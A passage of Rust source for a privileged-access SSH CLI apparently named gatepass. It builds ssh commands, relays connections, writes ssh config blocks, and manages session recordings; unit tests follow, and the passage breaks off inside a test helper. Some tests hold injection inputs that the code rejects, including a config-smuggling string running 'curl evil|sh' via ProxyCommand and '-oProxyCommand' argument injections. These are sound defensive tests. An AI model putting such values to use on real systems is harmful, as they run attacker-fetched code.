        "StrictHostKeyChecking=yes".into(),
    ];
    for o in ours.iter().chain(relay_options).chain(extra_options) {
        argv.push("-o".into());
        argv.push(o.into());
    }
    if let Route::Direct(addr) = gw {
        argv.extend(["-p".into(), addr.port.to_string().into()]);
    }
    argv.extend([
        "-l".into(),
        login.into(),
        "--".into(),
        gw.host_name().into(),
    ]);
    argv.extend(command.iter().map(OsString::from));
    Ok(argv)
}

/// Runs ssh to the end, passing our signals on to it: its exit status
/// (128+N when signal N killed it) and the last signal passed on.
async fn run_ssh(argv: &[OsString], signals: &mut Signals) -> Result<(u8, Option<Signal>)> {
    let mut child = tokio::process::Command::new(&argv[0])
        .args(&argv[1..])
        .spawn()
        .map_err(|e| {
            if e.kind() == ErrorKind::NotFound {
                Error::Local("ssh was not found: install the OpenSSH client".into())
            } else {
                Error::Local(format!("cannot run ssh: {e}"))
            }
        })?;
    let pid = child
        .id()
        .and_then(|p| i32::try_from(p).ok())
        .map(Pid::from_raw);
    let mut forwarded = None;
    let status = loop {
        tokio::select! {
            status = child.wait() => break status,
            sig = signals.next() => {
                if let Some(pid) = pid {
                    let _ = kill(pid, sig);
                    forwarded = Some(sig);
                }
            }
        }
    };
    let status = status.map_err(|e| Error::Local(format!("waiting for ssh: {e}")))?;
    let code = match (status.code(), status.signal()) {
        (Some(c), _) => u8::try_from(c).unwrap_or(255),
        (None, Some(s)) => 128u8.saturating_add(u8::try_from(s).unwrap_or(127)),
        _ => 255,
    };
    if let (None, Some(sig)) = (status.code(), status.signal()) {
        let name = Signal::try_from(sig)
            .map(|s| s.as_str())
            .unwrap_or("a signal");
        eoutln!("Error: ssh was killed by {name}");
    }
    Ok((code, forwarded))
}

// ------------------------------------------------------------ relay

/// `pam ssh relay ID`: ssh's connection to the session's gateway, through
/// the server, on stdin and stdout.
async fn relay(ctx: &Ctx, args: IdArgs) -> Result<()> {
    let id = segment("session", &args.id)?;
    let action = format!("relaying a connection to session {id}");
    let conn = ctx
        .client
        .upgrade(
            &format!("pam/sessions/{id}/relay"),
            gatepass_api::pam::RELAY_PROTOCOL,
        )
        .await
        .map_err(|e| ctx.api_error(e, &action))?;
    match carry(tokio::io::stdin(), tokio::io::stdout(), conn).await {
        Ok(()) => Ok(()),
        // ssh went away first: nothing left to carry.
        Err(e) if e.kind() == ErrorKind::BrokenPipe => Ok(()),
        Err(e) => Err(Error::Local(format!("{action}: {e}"))),
    }
}

/// Carries ssh's bytes (`from_ssh`, `to_ssh`) over `conn` both ways, until
/// the server's side ends. ssh ending its side first (end of its input) is
/// passed on and the answer still read to its end. The server's side
/// ending ends the relay at once, whatever ssh still has open: ssh waits
/// for its proxy's output to end, which only the relay's exit tells it
/// (tokio's stdout cannot be closed on its own), and the relay must not
/// wait for ssh's input to end, which ssh will not do first.
async fn carry<R, W, C>(mut from_ssh: R, mut to_ssh: W, conn: C) -> std::io::Result<()>
where
    R: tokio::io::AsyncRead + Unpin,
    W: tokio::io::AsyncWrite + Unpin,
    C: tokio::io::AsyncRead + tokio::io::AsyncWrite,
{
    use tokio::io::AsyncWriteExt;
    let (mut from_server, mut to_server) = tokio::io::split(conn);
    let down = async {
        tokio::io::copy(&mut from_server, &mut to_ssh).await?;
        to_ssh.flush().await
    };
    let up = async {
        tokio::io::copy(&mut from_ssh, &mut to_server).await?;
        to_server.shutdown().await?;
        // Nothing more to send; the server's side decides the end.
        std::future::pending::<std::io::Result<()>>().await
    };
    tokio::select! {
        r = down => r,
        r = up => r,
    }
}

// ----------------------------------------------------------- config

async fn config(ctx: &Ctx, via: &Via, args: ConfigArgs) -> Result<()> {
    access_path(&args.grant.resource, &args.grant.account)?;
    let base = match &args.dir {
        Some(d) => d.clone(),
        None => home()?.join(".gatepass").join("pam"),
    };
    // ssh reads the block's paths from any folder.
    let base = std::path::absolute(&base)
        .map_err(|e| Error::Local(format!("cannot resolve {}: {e}", base.display())))?;
    fs::DirBuilder::new()
        .recursive(true)
        .mode(0o700)
        .create(&base)
        .map_err(|e| Error::Local(format!("cannot create {}: {e}", base.display())))?;
    let t = now();
    remove_ended(&base, t);

    let mut signals = Signals::new()?;
    let g = request_access(ctx, &args.grant, true, &mut signals).await?;
    let dir = base.join(&g.access.session_id);
    fs::DirBuilder::new()
        .mode(0o700)
        .create(&dir)
        .and_then(|()| fs::set_permissions(&dir, fs::Permissions::from_mode(0o700)))
        .map_err(|e| Error::Local(format!("cannot create {}: {e}", dir.display())))?;
    let files = match write_session_files(&dir, &g).and_then(|f| {
        let block = config_block(&g, &args.grant, &f, &via.relay_options(&g)?)?;
        Ok((f, block))
    }) {
        Ok(f) => f,
        Err(e) => {
            let _ = fs::remove_dir_all(&dir);
            return Err(e);
        }
    };
    let (_, block) = files;
    out!("{block}");
    eoutln!(
        "gatepass: {}\ngatepass: add the block above to ~/.ssh/config, then: ssh {}",
        session_line(&g, &args.grant, t),
        host_alias(&args.grant.resource, &args.grant.account)
    );
    Ok(())
}

/// The ~/.ssh/config block for a session; `relay_options` (KEY=VALUE) go
/// in as `KEY VALUE` lines.
fn config_block(
    g: &Granted,
    grant: &Grant,
    files: &SessionFiles,
    relay_options: &[String],
) -> Result<String> {
    let mut reach = match &g.gateway {
        Route::Direct(addr) => format!("    Port {}\n", addr.port),
        Route::Relay { .. } => String::new(),
    };
    for o in relay_options {
        if let Some((k, v)) = o.split_once('=') {
            reach.push_str(&format!("    {k} {v}\n"));
        }
    }
    Ok(format!(
        "# gatepass PAM session {sid}: account {account} of {resource}, ends at {end}\n\
         Host {alias}\n\
         \x20   HostName {host}\n\
         {reach}\
         \x20   User {user}\n\
         \x20   IdentityFile {key}\n\
         \x20   CertificateFile {cert}\n\
         \x20   IdentitiesOnly yes\n\
         \x20   UserKnownHostsFile {kh}\n\
         \x20   GlobalKnownHostsFile /dev/null\n\
         \x20   StrictHostKeyChecking yes\n",
        sid = g.access.session_id,
        account = grant.account,
        resource = grant.resource,
        end = g.access.expires_at,
        alias = host_alias(&grant.resource, &grant.account),
        host = g.gateway.host_name(),
        user = g.access.login,
        key = config_path(&files.key)?,
        cert = config_path(&files.cert)?,
        kh = config_path(&files.known_hosts)?,
    ))
}

/// Removes the folders of sessions whose certificate has expired: only
/// folders this command made (the certificate's key ID is the folder's
/// name), so nothing else in `base` is touched.
fn remove_ended(base: &Path, now: u64) {
    let Ok(entries) = fs::read_dir(base) else {
        return;
    };
    for e in entries.flatten() {
        let dir = e.path();
        let Some(name) = dir.file_name().and_then(|n| n.to_str()).map(String::from) else {
            continue;
        };
        let ended = fs::read_to_string(dir.join("id-cert.pub"))
            .ok()
            .and_then(|t| Certificate::from_openssh(t.trim()).ok())
            .is_some_and(|c| c.key_id() == name && c.valid_before() <= now);
        if ended {
            let _ = fs::remove_dir_all(&dir);
        }
    }
}

// --------------------------------------------------------- sessions

fn list_path(args: &ListArgs) -> Result<String> {
    let filters: Vec<(&str, &str)> = [
        ("resource", args.resource.as_deref()),
        ("account", args.account.as_deref()),
        ("user", args.user.as_deref()),
        ("state", args.state.map(StateArg::as_str)),
        ("grep", args.grep.as_deref()),
    ]
    .into_iter()
    .filter_map(|(k, v)| v.map(|v| (k, v)))
    .collect();
    if filters.is_empty() {
        return Ok("pam/sessions".into());
    }
    let q = serde_urlencoded::to_string(&filters)
        .map_err(|e| Error::Usage(format!("cannot encode the filters: {e}")))?;
    Ok(format!("pam/sessions?{q}"))
}

async fn list(ctx: &Ctx, args: ListArgs) -> Result<()> {
    let path = list_path(&args)?;
    let resp = ctx
        .call("LIST", &path, None, "listing PAM sessions")
        .await?;
    let sessions = match &resp {
        None => vec![],
        Some(r) => {
            let list: SessionList = gatepass_api::data_of(r).ok_or_else(|| {
                Error::Local("listing PAM sessions: unexpected answer from the server".into())
            })?;
            in_order(list)
        }
    };
    match ctx.format {
        Format::Json | Format::Yaml => output::print_structured(&json!(sessions), ctx.format),
        Format::Table | Format::Cast if sessions.is_empty() => eoutln!("No sessions."),
        Format::Table | Format::Cast => {
            if let Some(r) = &resp {
                output::print_warnings(r);
            }
            out!("{}", sessions_table(&sessions));
        }
    }
    Ok(())
}

/// The sessions in the order of `keys` (newest first).
fn in_order(mut list: SessionList) -> Vec<SessionInfo> {
    list.keys
        .iter()
        .filter_map(|k| list.key_info.remove(k))
        .collect()
}

fn state_text(s: &SessionInfo) -> String {
    match (s.state, s.end_reason) {
        (SessionState::Pending, _) => "pending".into(),
        (SessionState::Active, _) => "active".into(),
        (SessionState::Ended, None) => "ended".into(),
        (SessionState::Ended, Some(r)) => format!("ended ({})", json_word(json!(r))),
    }
}

/// An enum as its JSON word (`gateway_lost`), from `json!(value)`.
fn json_word(v: Value) -> String {
    match v {
        Value::String(s) => s,
        other => other.to_string(),
    }
}

fn sessions_table(sessions: &[SessionInfo]) -> String {
    let rows: Vec<Vec<String>> = sessions
        .iter()
        .map(|s| {
            vec![
                s.session_id.clone(),
                state_text(s),
                s.resource.clone(),
                s.account.clone(),
                s.user.clone(),
                s.created_at.clone(),
                s.ended_at.clone().unwrap_or_else(|| s.expires_at.clone()),
            ]
        })
        .collect();
    output::grid(
        &[
            "Session",
            "State",
            "Resource",
            "Account",
            "User",
            "Created",
            "Ends/ended",
        ],
        &rows,
    )
}

fn session_rows(s: &SessionInfo) -> Vec<Row> {
    let opt = |v: &Option<String>| v.clone().map(Value::String).unwrap_or(Value::Null);
    vec![
        ("session_id".into(), json!(s.session_id)),
        ("state".into(), json!(s.state)),
        ("end_reason".into(), json!(s.end_reason)),
        ("end_detail".into(), opt(&s.end_detail)),
        ("resource".into(), json!(s.resource)),
        ("account".into(), json!(s.account)),
        ("username".into(), json!(s.username)),
        ("gateway".into(), json!(s.gateway)),
        ("user".into(), json!(s.user)),
        ("created_at".into(), json!(s.created_at)),
        ("started_at".into(), opt(&s.started_at)),
        ("expires_at".into(), json!(s.expires_at)),
        ("ended_at".into(), opt(&s.ended_at)),
    ]
}

/// Prints one session's answer: the whole JSON, or its Key/Value table.
fn print_session(ctx: &Ctx, resp: &Value, action: &str) -> Result<()> {
    if ctx.format.is_structured() {
        output::print_structured(resp, ctx.format);
        return Ok(());
    }
    let info: SessionInfo = gatepass_api::data_of(resp)
        .ok_or_else(|| Error::Local(format!("{action}: unexpected answer from the server")))?;
    output::print_warnings(resp);
    output::print_table(&session_rows(&info));
    Ok(())
}

fn no_session(action: String, id: &str) -> Error {
    Error::Api {
        action,
        status: 404,
        errors: vec![format!("no session {id}")],
        hint: None,
    }
}

async fn show(ctx: &Ctx, args: IdArgs) -> Result<()> {
    let id = segment("session", &args.id)?;
    let action = format!("reading the session {id}");
    let resp = ctx
        .call("GET", &format!("pam/sessions/{id}"), None, &action)
        .await?
        .ok_or_else(|| no_session(action.clone(), id))?;
    print_session(ctx, &resp, &action)
}

async fn terminate(ctx: &Ctx, args: IdArgs) -> Result<()> {
    let id = segment("session", &args.id)?;
    let action = format!("terminating the session {id}");
    let resp = ctx
        .call(
            "POST",
            &format!("pam/sessions/{id}/terminate"),
            None,
            &action,
        )
        .await?
        .ok_or_else(|| no_session(action.clone(), id))?;
    if ctx.format == Format::Table {
        eoutln!("Success! The session {id} was terminated.");
    }
    print_session(ctx, &resp, &action)
}

// ------------------------------------------------------------ recordings

async fn recordings(ctx: &Ctx, id: &str) -> Result<SessionRecordings> {
    let id = segment("session", id)?;
    let action = format!("reading the recording of session {id}");
    let resp = ctx
        .call(
            "GET",
            &format!("pam/sessions/{id}/recording"),
            None,
            &action,
        )
        .await?
        .ok_or_else(|| no_session(action.clone(), id))?;
    gatepass_api::data_of(&resp)
        .ok_or_else(|| Error::Local(format!("{action}: unexpected answer from the server")))
}

async fn verify(ctx: &Ctx, args: IdArgs) -> Result<u8> {
    let recs = recordings(ctx, &args.id).await?;
    if ctx.format.is_structured() {
        let summary: Vec<Value> = recs
            .recordings
            .iter()
            .map(|r| {
                json!({
                    "recording_id": r.recording_id,
                    "chunks": r.chunks,
                    "complete": r.complete,
                    "verdict": r.verdict,
                    "message": r.message,
                })
            })
            .collect();
        output::print_structured(
            &json!({
                "session_id": recs.session_id,
                "whole": recs.whole,
                "recordings": summary,
            }),
            ctx.format,
        );
    } else {
        if recs.recordings.is_empty() {
            outln!("session {}: no recording", recs.session_id);
        }
        for r in &recs.recordings {
            outln!("recording {}: {}", r.recording_id, r.message);
        }
        if recs.whole && !recs.recordings.is_empty() {
            outln!("the recording of session {} is whole", recs.session_id);
        } else {
            outln!("the recording of session {} is NOT whole", recs.session_id);
        }
    }
    Ok(if recs.whole && !recs.recordings.is_empty() {
        0
    } else {
        1
    })
}

fn warn_unless_whole(recs: &SessionRecordings) {
    for r in recs.recordings.iter().filter(|r| !r.verdict.is_whole()) {
        eoutln!(
            "warning: recording {}: {} (only what verifies is shown)",
            r.recording_id,
            r.message
        );
    }
}

async fn export(ctx: &Ctx, args: ExportArgs) -> Result<()> {
    let recs = recordings(ctx, &args.id).await?;
    warn_unless_whole(&recs);
    let text = match ctx.format {
        Format::Json => {
            let mut t = serde_json::to_string_pretty(&recs)
                .map_err(|e| Error::Local(format!("encoding the events: {e}")))?;
            t.push('\n');
            t
        }
        Format::Yaml => crate::yaml::to_yaml(
            &serde_json::to_value(&recs)
                .map_err(|e| Error::Local(format!("encoding the events: {e}")))?,
        ),
        Format::Cast | Format::Table => cast_of(&recs),
    };
    match &args.output {
        Some(path) => fs::write(path, text)
            .map_err(|e| Error::Local(format!("cannot write {}: {e}", path.display())))?,
        None => {
            use std::io::Write;
            let mut out = std::io::stdout().lock();
            out.write_all(text.as_bytes())
                .and_then(|()| out.flush())
                .map_err(|e| Error::Local(format!("writing the recording: {e}")))?;
        }
    }
    Ok(())
}

/// How often `watch` asks for new chunks.
const WATCH_POLL: Duration = Duration::from_secs(1);
/// How many more polls `watch` makes after the session ended, for the
/// gateway's last chunks and ends to arrive.
const WATCH_GRACE_POLLS: u32 = 10;

async fn watch(ctx: &Ctx, args: IdArgs) -> Result<()> {
    use std::collections::BTreeMap;
    use std::io::Write;
    let id = segment("session", &args.id)?;
    let action = format!("watching session {id}");
    // Per recording, the chunks shown: the next read asks only for later
    // ones.
    let mut shown: BTreeMap<String, u64> = BTreeMap::new();
    let mut grace = None;
    loop {
        // The session's state first: an end seen here means the reads
        // after it see what was delivered before it.
        let session = ctx
            .call("GET", &format!("pam/sessions/{id}"), None, &action)
            .await?
            .ok_or_else(|| no_session(action.clone(), id))?;
        let ended = session
            .get("data")
            .and_then(|d| d.get("state"))
            .and_then(Value::as_str)
            == Some("ended");
        let after: Vec<String> = shown.iter().map(|(r, n)| format!("{r}:{n}")).collect();
        let path = if after.is_empty() {
            format!("pam/sessions/{id}/recording")
        } else {
            format!("pam/sessions/{id}/recording?after={}", after.join(","))
        };
        let resp = ctx
            .call("GET", &path, None, &action)
            .await?
            .ok_or_else(|| no_session(action.clone(), id))?;
        let recs: SessionRecordings = gatepass_api::data_of(&resp)
            .ok_or_else(|| Error::Local(format!("{action}: unexpected answer from the server")))?;
        let mut out = std::io::stdout().lock();
        for r in &recs.recordings {
            for e in &r.events {
                if let EventKind::Output { data } = &e.kind {
                    out.write_all(data.as_bytes())
                        .map_err(|e| Error::Local(format!("writing the output: {e}")))?;
                }
            }
            shown.insert(r.recording_id.clone(), r.opened_chunks);
        }
        out.flush()
            .map_err(|e| Error::Local(format!("writing the output: {e}")))?;
        drop(out);
        let all_ended = !recs.recordings.is_empty() && recs.recordings.iter().all(|r| r.complete);
        if all_ended {
            return Ok(());
        }
        if ended {
            let left = grace.get_or_insert(WATCH_GRACE_POLLS);
            if *left == 0 {
                return Ok(());
            }
            *left -= 1;
        }
        tokio::time::sleep(WATCH_POLL).await;
    }
}

async fn replay(ctx: &Ctx, args: ReplayArgs) -> Result<()> {
    if !(args.speed.is_finite() && args.speed > 0.0) {
        return Err(Error::Usage("--speed must be a positive number".into()));
    }
    if args
        .idle_limit
        .is_some_and(|l| !(l.is_finite() && l >= 0.0))
    {
        return Err(Error::Usage(
            "--idle-limit must be zero or more seconds".into(),
        ));
    }
    let recs = recordings(ctx, &args.id).await?;
    warn_unless_whole(&recs);
    use std::io::Write;
    let mut last = 0.0f64;
    for (t, code, data) in cast_events(&recs) {
        if code != "o" {
            continue;
        }
        let mut pause = (t - last).max(0.0);
        if let Some(limit) = args.idle_limit {
            pause = pause.min(limit);
        }
        last = t;
        if pause > 0.0 {
            tokio::time::sleep(Duration::from_secs_f64(pause / args.speed)).await;
        }
        let mut out = std::io::stdout().lock();
        out.write_all(data.as_bytes())
            .and_then(|()| out.flush())
            .map_err(|e| Error::Local(format!("writing the recording: {e}")))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use gatepass_api::recording::EventKind;

    #[test]
    fn two_connections_make_one_cast_time_line() {
        use gatepass_api::pam::RecordingInfo;
        use gatepass_api::recording::{Event, Verdict};
        let ev = |t: f64, kind: EventKind| Event { t, ch: 0, kind };
        let rec = |id: &str, started_at_ms: i64, events: Vec<Event>| RecordingInfo {
            recording_id: id.into(),
            started_at_ms,
            chunks: 1,
            verdict: Verdict::Whole { chunks: 1 },
            message: String::new(),
            complete: true,
            events,
            opened_chunks: 1,
        };
        let recs = SessionRecordings {
            session_id: "s".into(),
            whole: true,
            recordings: vec![
                rec(
                    "b",
                    1_700_000_002_000,
                    vec![ev(
                        0.5,
                        EventKind::Output {
                            data: "second\r\n".into(),
                        },
                    )],
                ),
                rec(
                    "a",
                    1_700_000_000_000,
                    vec![
                        ev(0.0, EventKind::Resize { cols: 0, rows: 0 }),
                        ev(
                            0.1,
                            EventKind::Resize {
                                cols: 120,
                                rows: 40,
                            },
                        ),
                        ev(
                            0.2,
                            EventKind::Input {
                                data: "ls\r".into(),
                            },
                        ),
                        ev(
                            0.3,
                            EventKind::Exec {
                                command: "ls".into(),
                            },
                        ),
                        ev(
                            1.0,
                            EventKind::Output {
                                data: "first\r\n".into(),
                            },
                        ),
                    ],
                ),
            ],
        };
        let cast = cast_of(&recs);
        let lines: Vec<Value> = cast
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines[0]["version"], 2);
        assert_eq!(
            (lines[0]["width"].clone(), lines[0]["height"].clone()),
            (json!(120), json!(40))
        );
        assert_eq!(lines[0]["timestamp"], 1_700_000_000);
        assert_eq!(
            lines[1..].to_vec(),
            vec![
                json!([0.1, "r", "120x40"]),
                json!([0.2, "i", "ls\r"]),
                json!([1.0, "o", "first\r\n"]),
                json!([2.5, "o", "second\r\n"]),
            ]
        );
    }
    use clap::Parser;

    #[derive(Debug, Parser)]
    struct Cli {
        #[command(subcommand)]
        cmd: Command,
    }

    fn parse(args: &[&str]) -> std::result::Result<Command, clap::Error> {
        Cli::try_parse_from(std::iter::once("pam").chain(args.iter().copied())).map(|c| c.cmd)
    }

    #[test]
    fn access_arguments() {
        let Command::Ssh(SshCommand::Access(a)) = parse(&[
            "ssh",
            "access",
            "--resource",
            "web1",
            "--account",
            "root",
            "--duration",
            "1h",
            "-o",
            "ServerAliveInterval=5",
            "--",
            "echo",
            "-n",
            "hello",
        ])
        .unwrap() else {
            panic!("not access")
        };
        assert_eq!(a.grant.resource, "web1");
        assert_eq!(a.grant.account, "root");
        assert_eq!(a.grant.duration.as_deref(), Some("1h"));
        assert_eq!(a.ssh_options, ["ServerAliveInterval=5"]);
        assert_eq!(a.command, ["echo", "-n", "hello"]);

        let Command::Ssh(SshCommand::Access(a)) =
            parse(&["ssh", "access", "--resource", "r", "--account", "a"]).unwrap()
        else {
            panic!("not access")
        };
        assert_eq!(a.grant.duration, None);
        assert!(a.command.is_empty());
        assert!(parse(&["ssh", "access", "--resource", "r"]).is_err());
    }

    #[test]
    fn sessions_arguments() {
        let Command::Sessions(SessionsCommand::List(l)) = parse(&[
            "sessions",
            "list",
            "--resource",
            "web1",
            "--state",
            "active",
            "--user",
            "alice",
        ])
        .unwrap() else {
            panic!("not list")
        };
        assert_eq!(
            list_path(&l).unwrap(),
            "pam/sessions?resource=web1&user=alice&state=active"
        );
        let Command::Sessions(SessionsCommand::List(l)) = parse(&["sessions", "list"]).unwrap()
        else {
            panic!("not list")
        };
        assert_eq!(list_path(&l).unwrap(), "pam/sessions");
        assert!(parse(&["sessions", "list", "--state", "gone"]).is_err());
        assert!(matches!(
            parse(&["sessions", "terminate", "abc"]).unwrap(),
            Command::Sessions(SessionsCommand::Terminate(IdArgs { id })) if id == "abc"
        ));
        let Command::Ssh(SshCommand::Config(c)) = parse(&[
            "ssh",
            "config",
            "--resource",
            "r",
            "--account",
            "a",
            "--dir",
            "/x",
        ])
        .unwrap() else {
            panic!("not config")
        };
        assert_eq!(c.dir, Some(PathBuf::from("/x")));
    }

    #[test]
    fn filters_are_url_encoded() {
        let l = ListArgs {
            resource: None,
            account: Some("a b&c".into()),
            user: None,
            state: None,
            grep: None,
        };
        assert_eq!(list_path(&l).unwrap(), "pam/sessions?account=a+b%26c");
        let l = ListArgs {
            account: None,
            grep: Some("password: x&y".into()),
            ..l
        };
        assert_eq!(
            list_path(&l).unwrap(),
            "pam/sessions?grep=password%3A+x%26y"
        );
    }

    #[test]
    fn names_stay_one_path_segment() {
        assert_eq!(
            access_path("web1", "root").unwrap(),
            "pam/resources/web1/accounts/root/access"
        );
        for (r, a) in [
            ("a/b", "x"),
            ("x", ".."),
            ("", "x"),
            ("x", "a?b"),
            ("x", "a b"),
        ] {
            assert!(access_path(r, a).is_err(), "{r} {a}");
        }
        assert_eq!(host_alias("web1", "root"), "gatepass-web1-root");
        assert_eq!(host_alias("db*", "a,b"), "gatepass-db_-a_b");
    }

    #[test]
    fn gateway_addresses() {
        let a = |s: &str| GatewayAddr::parse(s).unwrap();
        assert_eq!(
            a("gw.example.com:2222"),
            GatewayAddr {
                host: "gw.example.com".into(),
                port: 2222
            }
        );
        assert_eq!(a("gw.example.com").port, 22);
        assert_eq!(a("[::1]:22").host, "::1");
        assert_eq!(a("[::1]:2200").port, 2200);
        assert_eq!(a("::1").host, "::1");
        assert_eq!(a("[::1]:2200").to_string(), "[::1]:2200");
        assert_eq!(a("127.0.0.1:2200").to_string(), "127.0.0.1:2200");
        for bad in [
            "",
            ":22",
            "h:0",
            "h:x",
            "[::1",
            "[::1]x",
            "-oProxyCommand=x:22",
            "a b:22",
        ] {
            assert!(GatewayAddr::parse(bad).is_err(), "{bad:?}");
        }
    }

    const KEY: &str =
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";

    #[test]
    fn known_hosts_lines_as_ssh_looks_them_up() {
        let gw = |s: &str| GatewayAddr::parse(s).unwrap();
        assert_eq!(
            known_hosts_lines(
                &gw("[::1]:22").known_hosts_name(),
                &[format!("{KEY} gateway@host")]
            )
            .unwrap(),
            format!("::1 {KEY}\n")
        );
        assert_eq!(
            known_hosts_lines(&gw("[::1]:2222").known_hosts_name(), &[KEY.into()]).unwrap(),
            format!("[::1]:2222 {KEY}\n")
        );
        assert_eq!(
            known_hosts_lines(
                &gw("gw:2222").known_hosts_name(),
                &[KEY.into(), format!("  {KEY}  ")]
            )
            .unwrap(),
            format!("[gw]:2222 {KEY}\n[gw]:2222 {KEY}\n")
        );
        assert!(known_hosts_lines(&gw("gw:22").known_hosts_name(), &[]).is_err());
        assert!(known_hosts_lines(&gw("gw:22").known_hosts_name(), &["not a key".into()]).is_err());
    }

    fn files(dir: &str) -> SessionFiles {
        SessionFiles {
            key: Path::new(dir).join("id"),
            cert: Path::new(dir).join("id-cert.pub"),
            known_hosts: Path::new(dir).join("known_hosts"),
        }
    }

    #[test]
    fn ssh_command_line() {
        let argv = ssh_command(
            &files("/run/user/0/gatepass-pam-x"),
            Some(Path::new("/dev/null")),
            &Route::Direct(GatewayAddr::parse("[::1]:2222").unwrap()),
            &[],
            "root",
            &["ServerAliveInterval=5".into()],
            &["echo".into(), "hello".into()],
        )
        .unwrap();
        let s: Vec<&str> = argv.iter().map(|a| a.to_str().unwrap()).collect();
        assert_eq!(
            s,
            [
                "ssh",
                "-F",
                "/dev/null",
                "-i",
                "/run/user/0/gatepass-pam-x/id",
                "-o",
                "CertificateFile=/run/user/0/gatepass-pam-x/id-cert.pub",
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "UserKnownHostsFile=/run/user/0/gatepass-pam-x/known_hosts",
                "-o",
                "GlobalKnownHostsFile=/dev/null",
                "-o",
                "StrictHostKeyChecking=yes",
                "-o",
                "ServerAliveInterval=5",
                "-p",
                "2222",
                "-l",
                "root",
                "--",
                "::1",
                "echo",
                "hello"
            ]
        );
        let spaced = ssh_command(
            &files("/tmp/my dir"),
            None,
            &Route::Direct(GatewayAddr::parse("gw").unwrap()),
            &[],
            "root",
            &[],
            &[],
        )
        .unwrap();
        assert!(spaced.contains(&OsString::from(
            "CertificateFile=\"/tmp/my dir/id-cert.pub\""
        )));
        assert_eq!(spaced.last().unwrap(), "gw");
        assert!(ssh_command(
            &files("/tmp/100%"),
            None,
            &Route::Direct(GatewayAddr::parse("gw").unwrap()),
            &[],
            "r",
            &[],
            &[]
        )
        .is_err());
    }

    fn granted(gateway: &str) -> Granted {
        granted_via(gateway, false)
    }

    #[test]
    fn a_servers_end_time_that_is_not_a_time_is_refused() {
        assert!(check_end("2026-12-02T15:00:00Z", "x").is_ok());
        for bad in [
            "x\nHost *\n    ProxyCommand sh -c 'curl evil|sh'\n# ",
            "2026-12-02T15:00:00Z\nHost *",
            "",
        ] {
            assert!(check_end(bad, "x").is_err(), "{bad:?}");
        }
    }

    fn granted_via(gateway: &str, relay: bool) -> Granted {
        let access = Access {
            session_id: "s-123".into(),
            gateway: gateway.into(),
            relay,
            gateway_host_keys: vec![KEY.into()],
            login: "root".into(),
            expires_at: "2026-12-02T15:00:00Z".into(),
            expires_at_unix: 1_796_223_600,
            signed_key: String::new(),
        };
        let gw = Route::of(&access).unwrap();
        Granted {
            access: Access {
                session_id: "s-123".into(),
                gateway: gateway.into(),
                relay,
                gateway_host_keys: vec![KEY.into()],
                login: "root".into(),
                expires_at: "2026-12-02T15:00:00Z".into(),
                expires_at_unix: 1_796_223_600,
                signed_key: String::new(),
            },
            known_hosts: known_hosts_lines(&gw.known_hosts_name(), &[KEY.into()]).unwrap(),
            gateway: gw,
            key_pem: Zeroizing::new(String::new()),
            cert_text: String::new(),
        }
    }

    fn grant() -> Grant {
        Grant {
            resource: "web1".into(),
            account: "root".into(),
            duration: None,
        }
    }

    #[test]
    fn config_blocks() {
        let block = config_block(
            &granted("gw.example.com:2222"),
            &grant(),
            &files("/home/a/.gatepass/pam/s-123"),
            &[],
        )
        .unwrap();
        assert_eq!(
            block,
            "# gatepass PAM session s-123: account root of web1, ends at 2026-12-02T15:00:00Z\n\
             Host gatepass-web1-root\n\
             \x20   HostName gw.example.com\n\
             \x20   Port 2222\n\
             \x20   User root\n\
             \x20   IdentityFile /home/a/.gatepass/pam/s-123/id\n\
             \x20   CertificateFile /home/a/.gatepass/pam/s-123/id-cert.pub\n\
             \x20   IdentitiesOnly yes\n\
             \x20   UserKnownHostsFile /home/a/.gatepass/pam/s-123/known_hosts\n\
             \x20   GlobalKnownHostsFile /dev/null\n\
             \x20   StrictHostKeyChecking yes\n"
        );
        let v6 = config_block(&granted("[::1]:22"), &grant(), &files("/a b"), &[]).unwrap();
        assert!(v6.contains("    HostName ::1\n    Port 22\n"), "{v6}");
        assert!(v6.contains("    IdentityFile \"/a b/id\"\n"), "{v6}");
    }

    fn via() -> Via {
        Via {
            exe: "/usr/bin/gatepass".into(),
            addr: "https://gp.example:8200".into(),
            ca_cert: Some("/home/a/it's 100%/ca.pem".into()),
        }
    }

    #[test]
    fn relayed_sessions_go_through_the_proxy_command() {
        let g = granted_via("gw1", true);
        assert_eq!(g.gateway.host_name(), "gatepass-gateway-gw1");
        assert!(g
            .known_hosts
            .starts_with("gatepass-gateway-gw1 ssh-ed25519 "));
        let proxy = via().proxy_command("s-123").unwrap();
        assert_eq!(
            proxy,
            "'/usr/bin/gatepass' --address 'https://gp.example:8200' \
             --ca-cert '/home/a/it'\\''s 100%%/ca.pem' pam ssh relay 's-123'"
        );
        let opts = via().relay_options(&g).unwrap();
        assert_eq!(
            opts,
            [
                format!("ProxyCommand={proxy}"),
                "HostKeyAlias=gatepass-gateway-gw1".to_string()
            ]
        );
        let argv = ssh_command(&files("/t"), None, &g.gateway, &opts, "root", &[], &[]).unwrap();
        let s: Vec<&str> = argv.iter().map(|a| a.to_str().unwrap()).collect();
        assert!(!s.contains(&"-p"), "{s:?}");
        assert_eq!(
            &s[s.len() - 4..],
            ["-l", "root", "--", "gatepass-gateway-gw1"]
        );
        assert!(s.contains(&"HostKeyAlias=gatepass-gateway-gw1"), "{s:?}");
        let block = config_block(&g, &grant(), &files("/h"), &opts).unwrap();
        assert!(
            block.contains(&format!(
                "    HostName gatepass-gateway-gw1\n    ProxyCommand {proxy}\n    \
                 HostKeyAlias gatepass-gateway-gw1\n    User root\n"
            )),
            "{block}"
        );
        assert!(!block.contains("Port"), "{block}");
        // A direct session has none of it.
        assert!(via().relay_options(&granted("gw:22")).unwrap().is_empty());
        // A relay gateway's name goes into ssh's options: nothing else may.
        let mut bad = granted_via("gw1", true).access;
        bad.gateway = "gw1 -oProxyCommand=x".into();
        assert!(Route::of(&bad).is_err());
    }

    #[test]
    fn session_line_says_id_and_end() {
        assert_eq!(
            session_line(&granted("gw:22"), &grant(), 1_796_223_600 - 3600),
            "session s-123 for root on web1, ends at 2026-12-02T15:00:00Z (in 1h)"
        );
    }

    /// A relay between in-memory pipes: ssh's input and output, and the
    /// server's side.
    fn relay_between_pipes() -> (
        tokio::io::DuplexStream,
        tokio::io::DuplexStream,
